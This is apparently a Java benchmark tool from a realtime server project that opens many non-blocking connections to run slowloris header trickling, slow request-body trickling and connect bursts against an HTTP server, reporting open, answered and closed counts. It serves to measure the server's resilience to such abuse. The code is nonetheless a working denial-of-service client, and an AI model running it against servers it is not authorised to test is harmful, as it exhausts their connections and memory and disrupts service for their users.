package dev.realtime.bench.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;

/**
 * Plays the abusive HTTP clients of issue 6 against a running server, to measure what they cost it
 * (watch the server with {@code jcmd PID GC.heap_info} and {@code ps -o rss= -p PID} meanwhile).
 *
 * <pre>
 * java -cp realtime-bench/target/classes dev.realtime.bench.attack.HttpAbuse HOST PORT KIND COUNT [options]
 * </pre>
 *
 * <p>Kinds, each on {@code COUNT} connections opened at once (one thread, non-blocking):
 * <ul>
 *   <li>{@code body-trickle}: an unsigned HTTP API publish ({@code POST /apps/ID/events}) announcing
 *       {@code --length} bytes, {@code --prefix} of them sent at once, then one more every {@code --interval-ms};</li>
 *   <li>{@code auth-trickle}: the same on {@code POST /broadcasting/auth}, which anyone may call;</li>
 *   <li>{@code header-trickle}: slowloris: a request line, then one header byte every interval;</li>
 *   <li>{@code burst}: {@code GET /health} on every connection, to time a connect storm against the backlog.</li>
 * </ul>
 * Options: {@code --app-id ID} (default {@code app}), {@code --length N} (200000), {@code --prefix N}
 * (length − 100: the server holds nearly the whole body), {@code --interval-ms N} (10000),
 * {@code --duration-s N} (60), {@code --source ADDRESS} (bind the connections to a local address).
 * Every 5 s it prints how many connections are open, answered (by status) and closed by the server.
 */
public final class HttpAbuse {
    private final String kind;
    private final List<Conn> conns = new ArrayList<>();
    private final Selector selector;
    private final byte[] trickle;
    private final long start = System.nanoTime();

    /** One attacking connection. */
    private static final class Conn {
        final SocketChannel channel;
        ByteBuffer pending;
        long connectedAt = -1;
        long answeredAt = -1;
        long closedAt = -1;
        int status = -1;
        final StringBuilder head = new StringBuilder();
        boolean failed;

        Conn(SocketChannel channel, byte[] first) {
            this.channel = channel;
            this.pending = ByteBuffer.wrap(first);
        }

        boolean open() {
            return closedAt < 0 && !failed;
        }
    }

    private HttpAbuse(String kind, Selector selector, byte[] trickle) {
        this.kind = kind;
        this.selector = selector;
        this.trickle = trickle;
    }

    /** Runs the attack; see the class comment for the arguments. */
    public static void main(String[] args) throws Exception {
        if (args.length < 4) {
            System.err.println("usage: HttpAbuse HOST PORT body-trickle|auth-trickle|header-trickle|burst COUNT "
                    + "[--app-id ID] [--length N] [--prefix N] [--interval-ms N] [--duration-s N] [--source ADDRESS]");
            System.exit(2);
        }
        String host = args[0];
        int port = Integer.parseInt(args[1]);
        String kind = args[2];
        int count = Integer.parseInt(args[3]);
        Map<String, String> opt = new TreeMap<>();
        for (int i = 4; i + 1 < args.length; i += 2) {
            opt.put(args[i], args[i + 1]);
        }
        int length = Integer.parseInt(opt.getOrDefault("--length", "200000"));
        int prefix = Integer.parseInt(opt.getOrDefault("--prefix", String.valueOf(Math.max(0, length - 100))));
        long intervalMs = Long.parseLong(opt.getOrDefault("--interval-ms", "10000"));
        long durationS = Long.parseLong(opt.getOrDefault("--duration-s", "60"));
        String appId = opt.getOrDefault("--app-id", "app");
        String source = opt.get("--source");

        byte[] first = switch (kind) {
            case "body-trickle" -> request("POST /apps/" + appId + "/events?auth_key=key&auth_timestamp=1&auth_version=1.0"
                    + "&auth_signature=0", "application/json", length, prefix);
            case "auth-trickle" -> request("POST /broadcasting/auth", "application/x-www-form-urlencoded", length, prefix);
            case "header-trickle" -> "GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);
            case "burst" -> "GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
            default -> throw new IllegalArgumentException("unknown kind " + kind);
        };
        byte[] trickle = kind.equals("burst") ? null : "a".getBytes(StandardCharsets.US_ASCII);
        HttpAbuse attack = new HttpAbuse(kind, Selector.open(), trickle);
        attack.open(host, port, count, first, source);
        attack.run(intervalMs, durationS * 1000);
    }

    /** Request headers announcing {@code length} body bytes, followed by the first {@code prefix} of them. */
    private static byte[] request(String line, String type, int length, int prefix) {
        byte[] head = (line + " HTTP/1.1\r\nHost: x\r\nContent-Type: " + type + "\r\nContent-Length: " + length + "\r\n\r\n")
                .getBytes(StandardCharsets.US_ASCII);
        byte[] out = Arrays.copyOf(head, head.length + Math.min(prefix, length));
        Arrays.fill(out, head.length, out.length, (byte) 'a');
        return out;
    }

    private void open(String host, int port, int count, byte[] first, String source) throws IOException {
        for (int i = 0; i < count; i++) {
            SocketChannel ch = SocketChannel.open();
            ch.configureBlocking(false);
            if (source != null) {
                ch.bind(new InetSocketAddress(source, 0));
            }
            Conn c = new Conn(ch, first);
            conns.add(c);
            if (ch.connect(new InetSocketAddress(host, port))) {
                connected(c);
            } else {
                ch.register(selector, SelectionKey.OP_CONNECT, c);
            }
        }
    }

    private void run(long intervalMs, long durationMs) throws IOException {
        long nextTrickle = System.currentTimeMillis() + intervalMs;
        long nextReport = System.currentTimeMillis() + 5000;
        long end = System.currentTimeMillis() + durationMs;
        ByteBuffer read = ByteBuffer.allocate(8192);
        while (System.currentTimeMillis() < end) {
            selector.select(100);
            for (SelectionKey key : selector.selectedKeys()) {
                Conn c = (Conn) key.attachment();
                try {
                    if (key.isValid() && key.isConnectable() && c.channel.finishConnect()) {
                        connected(c);
                    }
                    if (key.isValid() && key.isWritable()) {
                        flush(c);
                    }
                    if (key.isValid() && key.isReadable()) {
                        read(c, read);
                    }
                } catch (IOException e) {
                    closed(c, true);
                }
            }
            selector.selectedKeys().clear();
            long now = System.currentTimeMillis();
            if (trickle != null && now >= nextTrickle) {
                for (Conn c : conns) {
                    if (c.open() && c.connectedAt >= 0 && !c.pending.hasRemaining()) {
                        c.pending = ByteBuffer.wrap(trickle);
                        try {
                            flush(c);
                        } catch (IOException e) {
                            closed(c, true);
                        }
                    }
                }
                nextTrickle = now + intervalMs;
            }
            if (now >= nextReport) {
                report();
                nextReport = now + 5000;
            }
            if (kind.equals("burst") && conns.stream().noneMatch(Conn::open)) {
                break;
            }
        }
        report();
        for (Conn c : conns) {
            c.channel.close();
        }
    }

    private void connected(Conn c) throws IOException {
        c.connectedAt = System.nanoTime();
        c.channel.register(selector, SelectionKey.OP_READ, c);
        flush(c);
    }

    private void flush(Conn c) throws IOException {
        c.channel.write(c.pending);
        SelectionKey key = c.channel.keyFor(selector);
        if (key != null && key.isValid()) {
            key.interestOps(c.pending.hasRemaining() ? SelectionKey.OP_READ | SelectionKey.OP_WRITE : SelectionKey.OP_READ);
        }
    }

    private void read(Conn c, ByteBuffer buffer) throws IOException {
        buffer.clear();
        int n = c.channel.read(buffer);
        if (n < 0) {
            closed(c, false);
            return;
        }
        if (c.status < 0) {
            c.head.append(new String(buffer.array(), 0, n, StandardCharsets.ISO_8859_1));
            int eol = c.head.indexOf("\r\n");
            if (eol > 0) {
                String[] line = c.head.substring(0, eol).split(" ");
                c.status = line.length > 1 ? Integer.parseInt(line[1]) : 0;
                c.answeredAt = System.nanoTime();
                c.head.setLength(0);
            }
        }
    }

    private void closed(Conn c, boolean failed) {
        if (c.closedAt < 0) {
            c.closedAt = System.nanoTime();
            c.failed = failed && c.status < 0 && c.connectedAt < 0;
        }
        try {
            c.channel.close();
        } catch (IOException e) {
            // already gone
        }
    }

    private void report() {
        long connected = conns.stream().filter(c -> c.connectedAt >= 0).count();
        long open = conns.stream().filter(c -> c.connectedAt >= 0 && c.closedAt < 0).count();
        long closed = conns.stream().filter(c -> c.closedAt >= 0).count();
        Map<Integer, Integer> statuses = new TreeMap<>();
        List<Long> answerMs = new ArrayList<>();
        for (Conn c : conns) {
            if (c.status >= 0) {
                statuses.merge(c.status, 1, Integer::sum);
                answerMs.add((c.answeredAt - start) / 1_000_000);
            }
        }
        List<Long> closedMs = new ArrayList<>();
        for (Conn c : conns) {
            if (c.closedAt >= 0) {
                closedMs.add((c.closedAt - start) / 1_000_000);
            }
        }
        System.out.printf(Locale.ROOT, "t=%ds %s: connected %d/%d, open %d, answered %s%s, closed by the server %d%s%n",
                (System.nanoTime() - start) / 1_000_000_000, kind, connected, conns.size(), open, statuses,
                percentiles(answerMs), closed, percentiles(closedMs));
    }

    /** " (after p50 … ms, p99 … ms, max … ms from the start)", or nothing for no samples. */
    private static String percentiles(List<Long> ms) {
        if (ms.isEmpty()) {
            return "";
        }
        ms.sort(null);
        return String.format(Locale.ROOT, " (p50 %d ms, p99 %d ms, max %d ms after the start)",
                ms.get(ms.size() / 2), ms.get((int) (ms.size() * 0.99)), ms.get(ms.size() - 1));
    }
}
